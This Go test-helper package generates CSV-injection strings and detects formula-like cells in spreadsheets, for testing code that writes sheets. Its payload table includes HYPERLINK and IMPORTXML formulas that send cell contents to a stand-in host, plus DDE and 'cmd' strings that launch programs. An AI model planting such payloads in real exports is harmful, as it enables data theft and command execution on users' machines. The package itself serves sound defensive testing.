// Package sheettest makes texts that a spreadsheet would run, and finds out whether
// sheets hold any, for tests of what writes sheets. What it looks for is said here
// anew, from what OWASP publishes ("CSV Injection",
// https://owasp.org/www-community/attacks/CSV_Injection), not by package sheet.
package sheettest

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"beltwright.example/services/platform/needs"
)

// starts are what a formula begins with: the signs, their wide forms, and the tab and
// the carriage return, which some programs skip.
var starts = append(slices.Clone(signs), "\t", "\r") //nolint:gochecknoglobals // a table that nobody changes

// signs are those of them that are to be seen.
var signs = []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} //nolint:gochecknoglobals // a table that nobody changes

// fronts are what may stand before them and does not make them harmless. Most often
// it is nothing.
var fronts = []string{"", " ", "", "'", "", "\u200b", "", "\ufeff", "", "\u00a0", "\n", "a;", "1;", "x\t", "y\r\n", "b;\""} //nolint:gochecknoglobals // a table that nobody changes

// payloads are what would run.
var payloads = []string{ //nolint:gochecknoglobals // a table that nobody changes
	"1+1", `HYPERLINK("http://192.0.2.1/?x="&A1,"ok")`, "cmd|' /C calc'!A0", "SUM(1,2)", `DDE("cmd";"/C calc")`, "2+5+cmd|'x'!A0",
	"IMPORTXML(CONCAT(\"http://192.0.2.1/\",A1),\"//a\")", "A1", "1e5", "5,6;7", "0", ".5", "\"quoted\",\"x\"", "a\r\nb",
}

// Hostile is text number i of very many: no two in a row are alike.
func Hostile(i int) string {
	start := starts[i%len(starts)]
	front := fronts[i/len(starts)%len(fronts)]
	payload := payloads[i/len(starts)/len(fronts)%len(payloads)]
	return fmt.Sprintf("%s%s%s#%d", front, start, payload, i)
}

// number is what stays a number, although it may begin with a minus.
var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

// Number tells whether a cell is a number.
func Number(cell string) bool { return number.MatchString(cell) }

// Runs tells whether a spreadsheet would take a cell, or what some set to other
// languages make of it, who part cells at semicolons too, for a formula; or would
// once it has taken away what is not to be seen in front.
func Runs(cell string) bool {
	parts := strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) })
	return slices.ContainsFunc(append(parts, cell), func(part string) bool {
		if Number(part) {
			return false
		}
		seen := strings.TrimLeftFunc(part, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })
		return startsWith(part, starts) || startsWith(seen, signs)
	})
}

func startsWith(text string, starts []string) bool {
	return slices.ContainsFunc(starts, func(start string) bool { return strings.HasPrefix(text, start) })
}

// Read reads a sheet with the standard library's reader.
func Read(tb testing.TB, raw []byte) [][]string {
	tb.Helper()
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		tb.Fatalf("a sheet cannot be read: %v", err)
	}
	return rows
}

// Unsafe writes rows as one would without care, for controls.
func Unsafe(tb testing.TB, rows [][]string) []byte {
	tb.Helper()
	var out bytes.Buffer
	if err := csv.NewWriter(&out).WriteAll(rows); err != nil {
		tb.Fatal(err)
	}
	return out.Bytes()
}

// Count counts the cells of a sheet and those of them that would run, the first of
// which it returns.
func Count(rows [][]string) (cells, run int, first string) {
	for _, row := range rows {
		for _, cell := range row {
			cells++
			if Runs(cell) {
				if run++; run == 1 {
					first = cell
				}
			}
		}
	}
	return cells, run, first
}

// elsewhere reads a sheet with Python's csv module and counts by itself.
const elsewhere = `
import csv, json, re, sys
cells = run = 0
with open(sys.argv[1], encoding="utf-8", newline="") as f:
    for row in csv.reader(f, strict=True):
        for cell in row:
            cells += 1
            for part in [cell] + re.split("[;\t\r\n]+", cell):
                if part[:1] and part[0] in "=+-@\t\r＝＋－＠" and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", part):
                    run += 1
                    break
print(json.dumps({"cells": cells, "run": run}))
`

// CountElsewhere counts like Count, but with another reader: Python's. It skips a
// test where there is none.
func CountElsewhere(tb testing.TB, raw []byte) (cells, run int) {
	tb.Helper()
	needs.Tools(tb, "sheets", "python3")
	path := filepath.Join(tb.TempDir(), "sheet.csv")
	if err := os.WriteFile(path, raw, 0o600); err != nil {
		tb.Fatal(err)
	}
	out, err := exec.CommandContext(tb.Context(), "python3", "-c", elsewhere, path).CombinedOutput() //nolint:gosec // a program of this file on a file of the test's
	if err != nil {
		tb.Fatalf("python3: %v: %s", err, out)
	}
	var counted struct {
		Cells int `json:"cells"`
		Run   int `json:"run"`
	}
	if err := json.Unmarshal(out, &counted); err != nil {
		tb.Fatalf("python3 says %s: %v", out, err)
	}
	return counted.Cells, counted.Run
}
